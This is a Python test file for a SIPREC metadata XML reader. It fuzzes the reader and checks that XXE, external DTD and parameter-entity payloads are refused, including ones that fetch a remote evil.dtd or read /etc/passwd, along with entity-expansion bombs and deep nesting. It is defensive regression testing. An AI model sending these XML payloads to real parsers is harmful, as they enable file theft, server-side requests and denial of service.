"""Recording metadata under the short fuzz run, and the XML attacks an SRS must refuse.

``read_metadata`` parses with expat and refuses any DTD or entity declaration in the parser's own
handlers (whatever the encoding), documents over 64 KiB, and nesting past 32 levels. Each attack
below is refused with a ``MetadataError`` that says why, within a time and memory bound far
above what the refusal costs (it happens before any expansion), so a regression that starts
expanding entities fails loudly rather than slowly.
"""

from __future__ import annotations

import time
import tracemalloc

import pytest
from hypothesis import given
from hypothesis import strategies as st

from siprec_src.metadata.reader import (
    MAX_DEPTH,
    MAX_METADATA_BYTES,
    MetadataError,
    read_metadata,
    read_siprec_body,
)
from tests.robustness.run import BILLION_LAUGHS, DEEP, TARGETS, XXE, fuzz_settings, mutations, our_metadata

NS = b'xmlns="urn:ietf:params:xml:ns:recording:1"'


@pytest.mark.parametrize("name", ["metadata", "siprec_body"])
@fuzz_settings(300)
@given(data=st.data())
def test_fuzz(name: str, data: st.DataObject) -> None:
    target = TARGETS[name]
    target.run(data.draw(mutations(target), label=name))


def _refused(document: bytes, *, max_bytes: int = MAX_METADATA_BYTES) -> MetadataError:
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(MetadataError) as caught:
            read_metadata(document, max_bytes=max_bytes)
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert elapsed < 0.5, f"refusing took {elapsed:.3f} s"
    assert peak < 8 * 1024 * 1024 + 4 * len(document), f"refusing used {peak} bytes"
    return caught.value


PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE recording [<!ENTITY % remote SYSTEM "http://203.0.113.9/evil.dtd"> %remote;]>
<recording xmlns="urn:ietf:params:xml:ns:recording:1"/>
"""
EXTERNAL_DTD = (
    b'<?xml version="1.0"?>\n<!DOCTYPE recording SYSTEM "file:///etc/passwd">\n<recording ' + NS + b"/>"
)
QUADRATIC = (
    b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "'
    + b"x" * 20000
    + b'">]>\n<recording '
    + NS
    + b"><dataMode>"
    + b"&a;" * 10000
    + b"</dataMode></recording>"
)


@pytest.mark.parametrize(
    "document",
    [
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(XXE, id="xxe-file-etc-passwd"),
        pytest.param(PARAMETER_ENTITY, id="external-parameter-entity"),
        pytest.param(EXTERNAL_DTD, id="external-dtd"),
        pytest.param(QUADRATIC, id="quadratic-blowup"),
        pytest.param(BILLION_LAUGHS.replace(b"DOCTYPE", b"doctype"), id="lowercase-doctype"),
    ],
)
def test_dtds_and_entities_are_refused_before_anything_expands(document: bytes) -> None:
    error = _refused(document, max_bytes=1 << 20)
    assert "DTDs and entities are refused" in error.reason
    assert error.status_hint == 400
    assert "root:" not in error.reason  # nothing of /etc/passwd was read


def test_a_dtd_the_byte_search_cannot_see_is_refused_by_the_parser() -> None:
    """UTF-16: no ASCII "<!DOCTYPE" in the bytes; expat's doctype handler refuses it."""
    document = XXE.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>')
    encoded = document.decode("ascii").encode("utf-16")
    assert b"<!DOCTYPE" not in encoded
    error = _refused(encoded)
    assert "DOCTYPE" in error.reason


def test_an_undeclared_entity_is_refused() -> None:
    error = _refused(b"<recording " + NS + b"><dataMode>&xxe;</dataMode></recording>")
    assert "undefined entity" in error.reason


@pytest.mark.parametrize("levels", [MAX_DEPTH + 1, 20000])
def test_deep_nesting_is_refused(levels: int) -> None:
    document = b"<recording " + NS + b">" + b"<a>" * levels + b"</a>" * levels + b"</recording>"
    error = _refused(document, max_bytes=1 << 20)
    assert f"deeper than {MAX_DEPTH}" in error.reason
    _refused(DEEP)


def test_unclosed_deep_nesting_is_refused() -> None:
    error = _refused(b"<recording " + NS + b">" + b"<a>" * 20000)
    assert f"deeper than {MAX_DEPTH}" in error.reason


def test_a_huge_attribute_is_refused_by_size() -> None:
    document = b"<recording " + NS + b'><participant participant_id="' + b"p" * (1 << 20) + b'"/></recording>'
    error = _refused(document)
    assert error.status_hint == 413 and "more than the 65536 accepted" in error.reason


def test_a_large_attribute_within_the_limit_is_read_in_bounded_time() -> None:
    document = b"<recording " + NS + b'><participant participant_id="' + b"p" * 60000 + b'"/></recording>'
    started = time.perf_counter()
    metadata = read_metadata(document)
    assert time.perf_counter() - started < 0.5
    assert len(metadata.participants[0].participant_id) == 60000


def test_many_attributes_and_elements_within_the_limit_are_read_in_bounded_time() -> None:
    attributes = b" ".join(b'a%d="v"' % index for index in range(5000))
    document = b"<recording " + NS + b"><x:e xmlns:x='urn:x' " + attributes + b"/>" + b"<b/>" * 2000
    document += b"</recording>"
    assert len(document) < MAX_METADATA_BYTES
    started = time.perf_counter()
    read_metadata(document)
    assert time.perf_counter() - started < 1.0


def test_the_siprec_body_reader_refuses_a_bomb_in_its_metadata_part() -> None:
    body = b"--b\r\nContent-Type: application/sdp\r\n\r\nv=0\r\n--b\r\n"
    body += b"Content-Type: application/rs-metadata+xml\r\n\r\n" + BILLION_LAUGHS + b"\r\n--b--\r\n"
    with pytest.raises(MetadataError, match="DTDs and entities are refused"):
        read_siprec_body("multipart/mixed;boundary=b", body)


def test_our_own_document_is_read_back() -> None:
    metadata = read_metadata(our_metadata())
    assert len(metadata.participants) == 2 and len(metadata.streams) == 2
